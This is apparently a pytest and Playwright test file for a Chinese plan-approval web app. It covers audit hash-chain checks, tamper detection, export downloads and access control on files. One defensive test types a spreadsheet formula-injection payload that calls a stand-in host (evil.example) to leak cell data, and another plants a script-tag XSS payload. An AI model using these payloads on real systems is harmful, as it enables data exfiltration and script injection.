"""The audit page and a plan's files in a real browser: the auditor verifies the hash chain
(intact, or the broken event named) and downloads the export, whole or one plan's; a plan's
files and decision archive are downloaded by who may see the plan, each file checked against
its upload's SHA-256 and never shown inline; everyone else is refused by the server.
The export streams while people keep working, on SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
from playwright.sync_api import expect
from sqlalchemy import func, select

from engine import clock
from models import AuditEvent, Document

from .conftest import FIXTURES, ROOT
from .test_audit import tamper
from .web_helper import sign_in, signed_in_client

DRAFT = "深化财政预算管理制度改革方案（征求意见稿）.txt"  # attached to DT-2015-02 (plan 2) by zhang in the demo


def _events(engine, instance_id: int | None = None) -> int:
    with engine.db.reader() as s:
        query = select(func.count()).select_from(AuditEvent)
        if instance_id is not None:
            query = query.where(AuditEvent.instance_id == instance_id)
        return s.execute(query).scalar()


def _draft(engine) -> tuple[int, bytes]:
    with engine.db.reader() as s:
        d = s.execute(select(Document).where(Document.file_name == DRAFT)).scalar_one()
        return d.id, d.content


def test_the_auditor_verifies_an_intact_chain(live, page):
    engine = live.app.extensions["reformflow"]
    sign_in(page, live, "feng")
    page.locator("header nav").get_by_role("link", name="审计").click()
    expect(page.get_by_text("上次校验")).to_have_count(0)  # never checked yet
    events = _events(engine)
    page.get_by_role("button", name="校验哈希链").click()
    expect(page.get_by_role("status")).to_contain_text(f"审计记录完好：{events} 个事件，3 个附件与上传记录相符。")
    # the check itself is on the trail, after the events it checked, and the audit page remembers it
    with engine.db.reader() as s:
        last = s.execute(select(AuditEvent).order_by(AuditEvent.seq.desc()).limit(1)).scalar_one()
    assert (last.seq, last.event_type, last.actor) == (events + 1, "audit_verified", "feng")
    assert json.loads(last.payload) | {"check_id": None} == {"ok": True, "events": events, "files": 3, "problems": 0,
                                                             "head_hash": json.loads(last.payload)["head_hash"],
                                                             "check_id": None}
    assert last.prev_hash == json.loads(last.payload)["head_hash"]  # checked up to the event before it
    page.locator("header nav").get_by_role("link", name="审计").click()
    expect(page.get_by_role("heading", name="上次校验")).to_be_visible()
    expect(page.get_by_role("status")).to_contain_text(f"审计记录完好：{events} 个事件")
    expect(page.locator("section.verify")).to_contain_text("由 冯敏（feng） 于")


def test_a_long_check_shows_its_progress_until_its_result(live, page):
    """A check the button did not see finish: its page reloads itself, showing how far it got
    (written by the check as it goes), until the result is there."""
    from engine import audit_checks
    engine = live.app.extensions["reformflow"]
    check = audit_checks.start(engine, "feng")  # as the button does, before its thread runs it
    audit_checks.Progress(engine.db, check["id"]).events(1500, 3000)
    sign_in(page, live, "chen")
    page.goto(f"{live.url}/audit")
    page.get_by_role("button", name="校验哈希链").click()  # a second check is not started: the first is shown
    expect(page).to_have_url(f"{live.url}/audit/checks/{check['id']}")
    expect(page.get_by_role("status").filter(has_text="已有一次校验正在进行")).to_be_visible()
    running = page.locator(".check-running")
    expect(running).to_contain_text("正在校验（冯敏（feng）")
    expect(running).to_contain_text("已核对 1,500 / 3,000 个事件（50%）")
    expect(running.locator("progress")).to_have_attribute("value", "1500")
    expect(page.get_by_role("button", name="校验哈希链")).to_have_count(0)  # one check at a time
    events = _events(engine)
    audit_checks.run(engine, check["id"])
    expect(page.locator(".verdict.intact")).to_contain_text(f"审计记录完好：{events} 个事件", timeout=10_000)  # reloaded
    expect(page.locator(".check-running")).to_have_count(0)
    expect(page.get_by_role("button", name="校验哈希链")).to_be_visible()


def test_a_changed_event_is_named_when_the_chain_is_verified(live, page):
    engine = live.app.extensions["reformflow"]
    tamper(engine.db, "UPDATE audit_events SET actor = 'mallory' WHERE seq = 5")
    sign_in(page, live, "chen")
    page.goto(f"{live.url}/audit")
    page.get_by_role("button", name="校验哈希链").click()
    expect(page.get_by_role("alert")).to_contain_text("审计记录已损坏")
    expect(page.locator("ul.problems")).to_contain_text("事件 5")
    page.get_by_role("button", name="English").click()  # the page again, in English: a new GET, verify again
    page.get_by_role("button", name="Verify the chain").click()
    expect(page.locator("ul.problems")).to_contain_text("event 5")


def test_the_export_downloads_whole_or_one_plan_with_a_dated_name(live, page):
    engine = live.app.extensions["reformflow"]
    today = clock.today().isoformat()
    sign_in(page, live, "feng")
    page.goto(f"{live.url}/audit")
    with page.expect_download() as got:
        page.get_by_role("button", name="下载 JSONL").click()
    download = got.value
    assert download.suggested_filename == f"reformflow-audit-{today}.jsonl"
    lines = [json.loads(line) for line in open(download.path(), encoding="utf-8")]
    assert [e["seq"] for e in lines] == list(range(1, _events(engine)))  # and then the export's own event
    # every field is there: the auditor's own script recomputes each hash from the file alone
    checked = subprocess.run([sys.executable, str(ROOT / "ops" / "check_audit_export.py"), str(download.path())],
                             capture_output=True, text=True)
    assert checked.returncode == 0 and f"{len(lines)} events, every hash matches" in checked.stdout

    page.get_by_label("方案（编号或业务编号，可留空）").fill("DT-2015-02")
    with page.expect_download() as got:
        page.get_by_role("button", name="下载 CSV").click()
    download = got.value
    assert download.suggested_filename == f"reformflow-audit-plan-2-{today}.csv"
    text = open(download.path(), encoding="utf-8").read()
    assert text.startswith("\ufeff")  # Excel reads the Chinese
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    assert len(rows) == _events(engine, 2) and {r["方案编号 (instance_id)"] for r in rows} == {"2"}

    page.get_by_label("方案（编号或业务编号，可留空）").fill("DT-1999-99")
    page.get_by_role("button", name="下载 CSV").click()
    expect(page.get_by_role("alert")).to_contain_text("没有编号或业务编号为 DT-1999-99 的方案")


def test_who_is_not_an_auditor_nor_the_office_may_not_audit(live, page):
    sign_in(page, live, "zhang")
    expect(page.locator("header nav").get_by_role("link", name="审计")).to_have_count(0)
    assert page.goto(f"{live.url}/audit").status == 403
    assert page.request.get(f"{live.url}/audit/export.jsonl").status == 403
    page.goto(f"{live.url}/tasks")
    token = page.locator("input[name='csrf_token']").first.get_attribute("value")
    assert page.request.post(f"{live.url}/audit/verify", form={"csrf_token": token}).status == 403


def test_a_plans_files_and_archive_download_for_who_worked_on_it(live, page):
    engine = live.app.extensions["reformflow"]
    document_id, content = _draft(engine)
    sign_in(page, live, "zhang")  # the drafter of DT-2015-02: holds and held its tasks
    page.goto(f"{live.url}/plans/2")
    page.get_by_role("link", name="附件与决策档案").click()
    row = page.locator(f"tr[data-document='{document_id}']")
    expect(row).to_contain_text("zhang")
    expect(row).to_contain_text("245 B")
    with page.expect_download() as got:
        row.get_by_role("link", name=DRAFT).click()
    download = got.value
    assert download.suggested_filename == DRAFT
    assert open(download.path(), "rb").read() == content

    headers = page.request.get(f"{live.url}/plans/2/files/{document_id}").headers
    assert headers["content-disposition"].startswith(f'attachment; filename="document-{document_id}.txt"; filename*=UTF-8')
    assert headers["x-content-type-options"] == "nosniff" and "sandbox" in headers["content-security-policy"]

    with page.expect_download() as got:
        page.get_by_role("link", name="下载决策档案（Excel）").click()
    download = got.value
    assert download.suggested_filename == f"reformflow-archive-DT-2015-02-{clock.today().isoformat()}.xlsx"
    from openpyxl import load_workbook
    sheet = load_workbook(io.BytesIO(open(download.path(), "rb").read())).active
    about = {r[0]: r[1] for r in sheet.iter_rows(max_row=8, values_only=True)}
    assert about["方案名称"] == "深化财政预算管理制度改革方案" and about["业务编号"] == "DT-2015-02"


def test_the_office_and_auditors_see_every_plans_files_others_are_refused(live, page):
    engine = live.app.extensions["reformflow"]
    document_id, _ = _draft(engine)
    sign_in(page, live, "ma")  # a drafter of another unit, with no part in DT-2015-02
    page.goto(f"{live.url}/plans/2")
    expect(page.get_by_role("link", name="附件与决策档案")).to_have_count(0)
    for path in ("/plans/2/documents", f"/plans/2/files/{document_id}", "/plans/2/archive", "/plans/2/archive.xlsx",
                 "/plans/2/archive.csv"):
        assert page.request.get(f"{live.url}{path}").status == 404, path  # as if it did not exist
    page.get_by_role("button", name="退出").click()

    sign_in(page, live, "feng")
    assert page.request.get(f"{live.url}/plans/2/documents").status == 200
    assert page.request.get(f"{live.url}/plans/2/files/{document_id}").status == 200
    assert page.request.get(f"{live.url}/plans/2/archive.csv").status == 200


def _completed_event(engine, instance_id: int, step: str) -> int:
    """The seq of the audit event that recorded a step's completion."""
    from models import HumanTask
    with engine.db.reader() as s:
        return s.execute(select(AuditEvent.seq).join(HumanTask, HumanTask.id == AuditEvent.task_id)
                         .where(AuditEvent.instance_id == instance_id, AuditEvent.event_type == "task_completed",
                                HumanTask.name == step)).scalar_one()


def test_the_decision_archive_reads_and_prints_as_one_page(live, page):
    engine = live.app.extensions["reformflow"]
    sign_in(page, live, "chen")
    page.goto(f"{live.url}/plans/8")  # DT-2015-08, issued and filed in the demo
    page.get_by_role("link", name="查看和打印决策档案").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("决策档案")
    expect(page.get_by_role("status")).to_contain_text("条记录及其附件均与审计记录相符")
    legality = page.locator("section[data-procedure='legality_review']")
    expect(legality.get_by_role("heading")).to_have_text("合法性审查")
    seq = _completed_event(engine, 8, "合法合规性审查")
    row = legality.locator(f"tr[data-seq='{seq}']")
    for text in ("李娜", "市司法局", "合法合规性审查", "审查结论", "通过", "符合法律法规", f"第 {seq} 号"):
        expect(row).to_contain_text(text)
    expect(legality.locator("tr[data-seq]").first).to_contain_text("送审材料齐全是")  # a tick box as 是
    # a statutory procedure the plan did not go through says so, and why, rather than being left out
    expect(page.locator("section[data-procedure='risk_assessment'] p.empty")).to_have_text("不需要（是否须风险评估：无需评估）")

    page.emulate_media(media="print")  # on paper: the plan and its records, not the menu and the hints
    expect(page.locator("header.top")).to_be_hidden()
    expect(page.get_by_text("用浏览器的打印功能")).to_be_hidden()
    expect(row).to_be_visible()
    assert page.pdf(format="A4").startswith(b"%PDF")
    page.emulate_media(media="screen")

    page.get_by_role("button", name="English").click()
    expect(page.locator("section[data-procedure='legality_review'] h2")).to_have_text("Legality review")
    expect(page.get_by_role("status")).to_contain_text("records and their files match the audit trail")
    expect(page.locator(f"tr[data-seq='{seq}']")).to_contain_text(f"No. {seq}")


def test_the_decision_archive_page_says_when_a_record_was_changed(live, page):
    engine = live.app.extensions["reformflow"]
    seq = _completed_event(engine, 8, "合法合规性审查")
    tamper(engine.db, f"UPDATE audit_events SET actor = 'mallory' WHERE seq = {seq}")
    sign_in(page, live, "chen")
    page.goto(f"{live.url}/plans/8/archive")
    expect(page.get_by_role("alert")).to_contain_text("发现问题，本档案不可作为凭证，请联系审计人员")
    expect(page.locator("ul.problems")).to_contain_text(f"事件 {seq}")
    expect(page.get_by_role("status")).to_have_count(0)
    # the auditor is not told to contact the auditors: what to do is on the audit page
    sign_in(page, live, "feng")
    page.goto(f"{live.url}/plans/8/archive")
    expect(page.get_by_role("alert")).to_contain_text("请按审计页面校验结果下的说明保全证据并核查")


def test_a_file_changed_in_the_database_is_refused_not_downloaded(live, page):
    engine = live.app.extensions["reformflow"]
    document_id, _ = _draft(engine)
    tamper(engine.db, "UPDATE documents SET content = :c WHERE id = :i", table="documents",
           c=b"<html><script>alert(1)</script></html>", i=document_id)
    sign_in(page, live, "chen")
    page.goto(f"{live.url}/plans/2/documents")
    page.get_by_role("link", name=DRAFT).click()
    expect(page.get_by_role("alert")).to_contain_text("请勿使用此文件")
    expect(page).to_have_url(f"{live.url}/plans/2/documents")


# ----------------------------------------------------------------- the export while people work
@pytest.fixture
def small_library(db):
    """A database (SQLite, then PostgreSQL) with a few plans and an auditor who can sign in."""
    from engine.commands import Engine
    engine = Engine(db)
    engine.add_group("reform_office", "改革办")
    engine.add_group("auditor", "审计")
    engine.add_user("chen", "陈静", groups=["reform_office"], password="demo")
    engine.add_user("feng", "冯敏", groups=["auditor"], password="demo")
    engine.deploy([("mini_approval.bpmn", (FIXTURES / "diagrams" / "mini_approval.bpmn").read_bytes())], actor="chen")
    for n in range(30):
        engine.start("mini_approval", actor="chen", title=f"方案 {n}")
    return engine


def test_the_export_streams_while_people_work_and_is_the_chain_from_its_start(small_library, monkeypatch):
    from web import auditor, create_app
    engine = small_library
    monkeypatch.setattr(auditor, "_CHUNK", 512)  # many chunks from a small trail
    app = create_app(engine=engine, secret_key="test")
    app.config["WTF_CSRF_ENABLED"] = False
    client = app.test_client()
    assert client.post("/login", data={"username": "feng", "password": "demo"}).status_code == 302
    before = _events(engine)
    response = client.get("/audit/export.jsonl", buffered=False)
    chunks = iter(response.response)
    first = next(chunks)
    engine.start("mini_approval", actor="chen", title="导出期间发起")  # not held up by the export
    text = b"".join([first, *chunks]).decode("utf-8")
    events = [json.loads(line) for line in text.splitlines()]
    assert len(events) >= before
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    assert all(e["prev_hash"] == p["hash"] for p, e in zip(events, events[1:]))


def test_a_download_of_the_trail_goes_on_the_trail(small_library):
    """QA auditor finding 10: who took a copy of the trail could not be reconstructed."""
    from web import create_app
    engine = small_library
    app = create_app(engine=engine, secret_key="test")
    app.config["WTF_CSRF_ENABLED"] = False
    client = app.test_client()
    assert client.post("/login", data={"username": "feng", "password": "demo"}).status_code == 302
    text = client.get("/audit/export.csv?plan=2").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1:]
    with engine.db.reader() as s:
        last = s.execute(select(AuditEvent).order_by(AuditEvent.seq.desc()).limit(1)).scalar_one()
    assert (last.actor, last.event_type, last.instance_id) == ("feng", "audit_exported", None)
    assert json.loads(last.payload) == {"format": "csv", "plan": 2, "events": len(rows), "last_seq": int(rows[-1][0]),
                                        "last_hash": rows[-1][8], "via": "web"}
    client.get("/audit/export.jsonl").get_data()
    with engine.db.reader() as s:
        whole = s.execute(select(AuditEvent).order_by(AuditEvent.seq.desc()).limit(1)).scalar_one()
    assert json.loads(whole.payload)["plan"] is None and whole.seq == last.seq + 1
    assert json.loads(whole.payload)["last_seq"] == last.seq  # the export before it, in this one


def test_a_name_typed_as_a_formula_at_the_sign_in_page_is_text_in_the_downloaded_csv(demo_engine):
    """Anyone can type a name at the sign-in page, and the refusal records it: the CSV the auditor
    downloads and opens in Excel must show it, not run it."""
    typed = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'
    anonymous = signed_in_client(demo_engine, "feng")  # feng: the auditor
    anonymous.get("/logout")
    anonymous.post("/login", data={"username": typed, "password": "x"})
    feng = signed_in_client(demo_engine, "feng")
    text = feng.get("/audit/export.csv").get_data(as_text=True)
    actors = [row["办理人用户名 (actor)"] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))]
    assert "'" + typed in actors and typed not in actors
